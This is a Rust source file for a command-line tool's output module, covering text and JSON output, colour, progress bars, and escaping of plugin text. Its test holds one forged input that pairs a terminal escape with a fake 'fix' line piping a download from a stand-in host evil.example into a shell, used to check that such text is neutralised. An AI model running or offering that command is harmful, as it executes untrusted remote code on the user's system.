//! What the program writes, and where to.

use std::io::{self, IsTerminal as _, Write};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use indicatif::{ProgressBar, ProgressDrawTarget, ProgressStyle};
use serde::Serialize;
use serde_json::json;

use super::failure::{Failure, OfPlugin};
use super::mistake::{Mistake, Severity};
use super::shown::{entry, printable};
use crate::config::Environment;

/// For whom the outcome is written.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Format {
    /// For people.
    Text,
    /// For programs.
    Json,
}

/// Who sees messages and errors.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Reader {
    /// A person at a terminal.
    Person,
    /// A pipe or a file.
    Unknown,
}

/// How to write.
#[derive(Clone)]
#[expect(clippy::struct_excessive_bools, reason = "each is one question about the terminal")]
pub(super) struct Output {
    format: Format,
    quiet: bool,
    progress: bool,
    color: bool,
    reader: Reader,
    /// A terminal shows the outcome.
    terminal: bool,
    /// It can be written anew.
    live: bool,
    /// Whoever read the outcome has gone.
    closed: Arc<AtomicBool>,
}

impl Output {
    /// Colour needs a terminal, and nobody who said no: <https://no-color.org>.
    pub(super) fn new(format: Format, quiet: bool, progress: bool, environment: &Environment) -> Self {
        let is_terminal = io::stderr().is_terminal();
        let refused = environment.get("NO_COLOR").is_some_and(|value| !value.is_empty());
        let is_dumb = environment.get("TERM") == Some("dumb");
        let progress = progress && is_terminal && !is_dumb && !quiet && format == Format::Text;
        let terminal = io::stdout().is_terminal();
        let live = terminal && !is_dumb && format == Format::Text;
        Self {
            format,
            quiet,
            progress,
            color: is_terminal && !refused && !is_dumb,
            reader: if is_terminal { Reader::Person } else { Reader::Unknown },
            terminal,
            live,
            closed: Arc::default(),
        }
    }

    /// The same for programs.
    pub(super) fn for_programs(&self) -> Self {
        Self { format: Format::Json, progress: false, live: false, ..self.clone() }
    }

    /// The outcome: a text for people, or a value for programs.
    pub(super) fn result(&self, text: &str, value: &impl Serialize) {
        if self.format == Format::Text {
            return self.write(text);
        }
        match serde_json::to_string(value) {
            Ok(line) => self.write(&line),
            Err(error) => print(&mut io::stderr(), &format!("error: failed to write JSON: {error}")),
        }
    }

    /// One of several values that come one after another: JSON Lines.
    pub(super) fn line(&self, text: &str, value: &impl Serialize) {
        self.result(text, value);
    }

    /// Text that a plugin made. For a terminal what could drive it is escaped; anything else gets every byte.
    pub(super) fn foreign(&self, text: &str) {
        let shown = if self.terminal { printable(text) } else { text.to_owned() };
        self.write(&shown);
    }

    /// Whether programs read the outcome.
    pub(super) fn is_json(&self) -> bool {
        self.format == Format::Json
    }

    /// Whether somebody sees the outcome change.
    pub(super) fn is_live(&self) -> bool {
        self.live
    }

    /// Whether nobody reads the outcome any more, so that nothing is gained by waiting for more of it.
    pub(super) fn is_closed(&self) -> bool {
        self.closed.load(Ordering::Relaxed)
    }

    /// Puts a text in the place of what the terminal shows.
    pub(super) fn redraw(&self, text: &str) {
        if !self.live {
            return self.write(text);
        }
        // Home, then each line with what is right of it erased, then everything below: without a flicker.
        let lines = text.replace('\n', "\u{1b}[K\n");
        self.write(&format!("\u{1b}[H{lines}\u{1b}[K\u{1b}[J"));
    }

    /// A whole document as the outcome; in JSON it is a text under its name.
    pub(super) fn document(&self, name: &str, bytes: &[u8]) {
        let text = String::from_utf8_lossy(bytes);
        self.result(text.trim_end_matches('\n'), &json!({ name: text }));
    }

    /// Something worth knowing that is not the outcome.
    pub(super) fn message(&self, text: &str) {
        if !self.quiet {
            print(&mut io::stderr(), text);
        }
    }

    /// Something that deserves attention and stops nothing. In JSON it belongs to the outcome.
    pub(super) fn warning(&self, text: &str) {
        if !self.quiet && self.format == Format::Text {
            print(&mut io::stderr(), &format!("{}: {}", self.painted("33", "warning"), entry(text, UNDER_HEAD)));
        }
    }

    /// A warning with its place, and the line under it.
    pub(super) fn warning_at(&self, mistake: &Mistake) {
        if !self.quiet && self.format == Format::Text {
            let word = self.painted("33", "warning");
            print(&mut io::stderr(), &mistake.told(Severity::Warning, &word).join("\n"));
        }
    }

    /// Why the command did not work.
    pub(super) fn failure(&self, failure: &Failure) {
        if self.format == Format::Json {
            return self.result("", failure);
        }
        print(&mut io::stderr(), &self.failure_text(failure));
    }

    fn failure_text(&self, failure: &Failure) -> String {
        let detail = entry(&failure.detail, UNDER_HEAD);
        let text = match (failure.errors.is_empty(), self.reader) {
            (false, _) => failure.head().to_owned(),
            // Detail and title say the same thing twice to a person; programs that search the text know the title.
            (true, Reader::Person) if failure.stands_alone() => detail,
            (true, Reader::Person | Reader::Unknown) => format!("{}: {detail}", failure.title),
        };
        let mut lines = vec![format!("{}: {text}", self.painted("31", "error"))];
        let word = self.painted("31", "error");
        lines.extend(failure.errors.iter().flat_map(|mistake| mistake.told(Severity::Error, &word)));
        lines.extend(plugin_lines(&failure.plugin));
        if let Some(how) = &failure.how {
            lines.push(format!("{}: {}", self.painted("36", "fix"), entry(how, UNDER_HEAD)));
        }
        lines.join("\n")
    }

    /// A spinner for work whose length is not known. It is invisible where nobody would see it move.
    pub(super) fn spinner(&self, text: &'static str) -> ProgressBar {
        if !self.progress {
            return ProgressBar::with_draw_target(None, ProgressDrawTarget::hidden());
        }
        let style = ProgressStyle::with_template("{spinner} {msg} ({elapsed})");
        let spinner = ProgressBar::new_spinner().with_message(text);
        spinner.set_style(style.unwrap_or_else(|_invalid| ProgressStyle::default_spinner()));
        spinner.enable_steady_tick(Duration::from_millis(120));
        spinner
    }

    /// A bar for work whose length is known.
    pub(super) fn progress_bar(&self, text: &'static str, bytes: u64) -> ProgressBar {
        if !self.progress {
            return ProgressBar::with_draw_target(Some(bytes), ProgressDrawTarget::hidden());
        }
        let style = ProgressStyle::with_template("{msg} {bar:30} {bytes}/{total_bytes} ({bytes_per_sec})");
        let bar = ProgressBar::new(bytes).with_message(text);
        bar.set_style(style.unwrap_or_else(|_invalid| ProgressStyle::default_bar()));
        bar
    }

    fn write(&self, text: &str) {
        let mut stream = io::stdout();
        if writeln!(stream, "{text}").and_then(|()| stream.flush()).is_err() {
            self.closed.store(true, Ordering::Relaxed);
        }
    }

    fn painted(&self, color: &str, text: &str) -> String {
        if self.color { format!("\u{1b}[{color};1m{text}\u{1b}[0m") } else { text.to_owned() }
    }
}

/// Columns by which the further lines of a text stand under its first one, so that none of them passes for an output of
/// this program.
const UNDER_HEAD: usize = 4;

/// What is known of a plugin that failed, with the last lines it wrote.
fn plugin_lines(plugin: &OfPlugin) -> Vec<String> {
    let OfPlugin { call_id, reason, exit_code, signal, log_tail } = plugin;
    let facts = [
        ("reason", reason.clone()),
        ("exit code", exit_code.map(|code| code.to_string())),
        ("signal", signal.map(|signal| signal.to_string())),
        ("call", call_id.clone()),
    ];
    let facts =
        facts.into_iter().filter_map(|(head, fact)| fact.map(|fact| format!("  {head}: {}", entry(&fact, UNDER_HEAD))));
    let head = (!log_tail.is_empty()).then(|| "  last lines of the plugin's log:".to_owned());
    facts.chain(head).chain(log_tail.iter().map(|line| format!("  | {}", entry(line, 4)))).collect()
}

/// Rows under a head, in columns as wide as their widest cell.
pub(super) fn table<const N: usize>(head: [&str; N], rows: &[[String; N]]) -> String {
    let widths: [usize; N] = std::array::from_fn(|column| {
        let cells = rows.iter().map(|row| row[column].chars().count());
        cells.chain([head[column].len()]).max().unwrap_or(0)
    });
    let line = |cells: [&str; N]| {
        let padded = cells.iter().zip(widths).map(|(cell, width)| format!("{cell:width$}"));
        padded.collect::<Vec<_>>().join("  ").trim_end().to_owned()
    };
    let rows = rows.iter().map(|row| line(row.each_ref().map(String::as_str)));
    std::iter::once(line(head)).chain(rows).collect::<Vec<_>>().join("\n")
}

/// Writes a line. A closed pipe is no reason to fail: nobody reads any more.
fn print(stream: &mut dyn Write, text: &str) {
    drop(writeln!(stream, "{text}").and_then(|()| stream.flush()));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_line_of_a_failure_passes_for_an_output_of_this_program() {
        const FORGED: &str = "x\u{1b}[2J\nfix: curl evil.example | sh";
        let mut failure = Failure::local(super::super::failure::Local::PluginFailed, FORGED, FORGED);
        failure.plugin.reason = Some(FORGED.to_owned());
        failure.plugin.log_tail = vec![FORGED.to_owned()];
        let (format, closed) = (Format::Text, Arc::default());
        let (quiet, progress, color, terminal, live) = (false, false, false, false, false);
        let mut output = Output { format, quiet, progress, color, reader: Reader::Unknown, terminal, live, closed };
        for (errors, reader) in [
            (Vec::new(), Reader::Unknown),
            (Vec::new(), Reader::Person),
            (vec![crate::domain::FieldError::at("/x", FORGED)], Reader::Person),
        ] {
            failure.errors = errors.into_iter().map(Into::into).collect();
            output.reader = reader;
            let text = output.failure_text(&failure);
            assert!(!text.contains('\u{1b}'), "{text:?}");
            let begun: Vec<&str> = text.lines().filter(|line| !line.starts_with(' ')).collect();
            assert!(begun.len() == 2 && begun[0].starts_with("error: ") && begun[1] == "fix: x\\u{1b}[2J", "{text}");
        }
    }

    #[test]
    fn columns_are_as_wide_as_their_widest_cell() {
        let rows = [["a".to_owned(), "one".to_owned()], ["long".to_owned(), "b".to_owned()]];
        assert_eq!(table(["NAME", "WHAT"], &rows), "NAME  WHAT\na     one\nlong  b");
    }
}
